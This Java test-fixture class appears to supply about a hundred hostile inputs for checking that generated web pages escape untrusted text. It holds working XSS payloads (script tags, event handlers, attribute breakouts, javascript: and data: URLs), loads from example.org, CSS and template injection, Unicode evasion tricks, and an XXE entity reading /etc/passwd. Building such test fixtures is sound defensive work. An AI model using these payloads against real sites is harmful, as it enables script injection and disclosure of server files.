package dev.outreach.output.page;

import java.util.List;
import java.util.stream.Stream;

/**
 * A hundred texts that would be markup, script, style, a link or a template if they were not kept
 * as text. Those that run set {@code window.hit}; those that load ask example.org.
 */
final class HostileTexts {
  private static final int LONG = 10_000;

  /** Script elements, whole, broken, nested and closed early. */
  private static final List<String> SCRIPTS =
      List.of(
          "<script>window.hit=1</script>",
          "</script><script>window.hit=2</script>",
          "<SCRIPT SRC=http://example.org/hit.js></SCRIPT>",
          "<scr<script>ipt>window.hit=3</scr</script>ipt>",
          "<script type=module>window.hit=4</script>",
          "<script/x>window.hit=5</script>",
          "<script\n>window.hit=6</script\n>",
          "<script src=data:text/javascript,window.hit=7></script>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.hit=8>\">",
          "<script>/*");

  /** Elements whose attributes are scripts. */
  private static final List<String> HANDLERS =
      List.of(
          "<img src=x onerror=window.hit=9>",
          "<img src=x onerror=\"window.hit=10\"//",
          "<body onload=window.hit=11>",
          "<details open ontoggle=window.hit=12>",
          "<input autofocus onfocus=window.hit=13>",
          "<video><source onerror=window.hit=14></video>",
          "<audio src=x onerror=window.hit=15>",
          "<marquee onstart=window.hit=16>x</marquee>",
          "<p style=\"animation:hit 1s\" onanimationstart=window.hit=17>x",
          "<img/src=x/onerror=window.hit=18>");

  /** Ends of an attribute. */
  private static final List<String> QUOTES =
      List.of(
          "\" onmouseover=window.hit=19 x=\"",
          "' onfocus=window.hit=20 autofocus tabindex=0 x='",
          "\" autofocus onfocus=window.hit=21 \"",
          "\"><img src=x onerror=window.hit=22>",
          "'><img src=x onerror=window.hit=23>",
          "` onload=window.hit=24 `",
          "\"/><svg onload=window.hit=25>",
          "\" style=\"background:url(http://example.org/hit)\" x=\"",
          "half \"open",
          "half 'open");

  /** Pictures and formulas in markup of their own. */
  private static final List<String> FOREIGN =
      List.of(
          "<svg onload=window.hit=26>",
          "<svg><script>window.hit=27</script></svg>",
          "<svg><animate onbegin=window.hit=28 attributeName=x dur=1s>",
          "<svg><use href=\"http://example.org/hit.svg#x\"/></svg>",
          "<svg><a href=\"javascript:window.hit=29\"><text>x</text></a></svg>",
          "<svg><foreignObject><img src=x onerror=window.hit=30></foreignObject></svg>",
          "</text></svg><img src=x onerror=window.hit=31>",
          "<svg><image href=\"http://example.org/hit.png\"/></svg>",
          "<svg><style>*{fill:url(http://example.org/hit)}</style></svg>",
          "<math><mtext><img src=x onerror=window.hit=32></mtext></math>",
          "<math href=\"javascript:window.hit=33\">x</math>");

  /** Addresses that run or lead away. */
  private static final List<String> ADDRESSES =
      List.of(
          "javascript:window.hit=34",
          "JaVaScRiPt:window.hit=35",
          "java\tscript:window.hit=36",
          "data:text/html,<script>window.hit=37</script>",
          "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTM4PC9zY3JpcHQ+",
          "vbscript:msgbox(39)",
          "http://example.org/hit",
          "//example.org/hit",
          "<a href=\"http://example.org/hit\">here</a>",
          "<a href=javascript:window.hit=40>here</a>",
          "[here](javascript:window.hit=41)");

  /** Elements that change the page around them. */
  private static final List<String> ELEMENTS =
      List.of(
          "</title><script>window.hit=42</script>",
          "</style><script>window.hit=43</script>",
          "</table></section></main></body></html><script>window.hit=44</script>",
          "</td></tr></table><p>out",
          "</textarea><script>window.hit=45</script>",
          "<base href=http://example.org/>",
          "<meta http-equiv=refresh content=\"0;url=http://example.org/hit\">",
          "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
          "<link rel=stylesheet href=http://example.org/hit.css>",
          "<link rel=prefetch href=http://example.org/hit>",
          "<iframe src=http://example.org/hit></iframe>",
          "<iframe srcdoc=\"<script>parent.hit=46</script>\"></iframe>",
          "<object data=http://example.org/hit></object>",
          "<embed src=http://example.org/hit>",
          "<form action=http://example.org/hit><input type=submit></form>",
          "<button formaction=javascript:window.hit=47>x</button>",
          "<dialog open>x</dialog>",
          "<template><script>window.hit=48</script></template>",
          "<plaintext>",
          "<xmp><img src=x onerror=window.hit=49></xmp>");

  /** Style. */
  private static final List<String> STYLES =
      List.of(
          "<style>*{display:none}</style>",
          "}*{display:none}/*",
          "<p style=\"position:fixed;inset:0\">x</p>",
          "<style>@import 'http://example.org/hit.css';</style>");

  /** Comments, entities, character data, declarations. */
  private static final List<String> ENTITIES =
      List.of(
          "<!--",
          "--><script>window.hit=51</script><!--",
          "<!--><img src=x onerror=window.hit=52>-->",
          "<![CDATA[<script>window.hit=53</script>]]>",
          "]]><script>window.hit=54</script>",
          "&lt;script&gt;window.hit=55&lt;/script&gt;",
          "&#60;script&#62;window.hit=56&#60;/script&#62;",
          "&#x3c;img src=x onerror=window.hit=57&#x3e",
          "&quot; onload=window.hit=58 &quot;",
          "&amp;lt;b&amp;gt; &nbsp; &notanentity;",
          "<?xml-stylesheet href=\"http://example.org/hit.xsl\"?>",
          "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;");

  /** What templates would fill in. */
  private static final List<String> TEMPLATES =
      List.of(
          "${7*7}",
          "$unsafe{\"<b>x</b>\"}",
          "@if(true)x@endif",
          "{{constructor.constructor('window.hit=59')()}}",
          "#{7*7} <%= 7*7 %> %s {0} {people, plural, other {#}}");

  /** Characters that deceive. */
  private static final List<String> CHARACTERS =
      List.of(
          "\u0000<script>window.hit=60</script>",
          "<scr\u0000ipt>window.hit=61</script>",
          "+ADw-script+AD4-window.hit=62+ADw-/script+AD4-",
          "\u202etxet desrever\u202c <img src=x onerror=window.hit=63>",
          "\uff1cscript\uff1ewindow.hit=64\uff1c/script\uff1e",
          "\ud800<img src=x onerror=window.hit=65>");

  private static final List<String> LONG_ONES =
      List.of(
          "<script>window.hit=50;</script>"
              .repeat(LONG / "<script>window.hit=50;</script>".length()));

  static final List<String> ALL =
      Stream.of(
              SCRIPTS,
              HANDLERS,
              QUOTES,
              FOREIGN,
              ADDRESSES,
              ELEMENTS,
              STYLES,
              ENTITIES,
              TEMPLATES,
              CHARACTERS,
              LONG_ONES)
          .flatMap(List::stream)
          .toList();

  private HostileTexts() {}
}
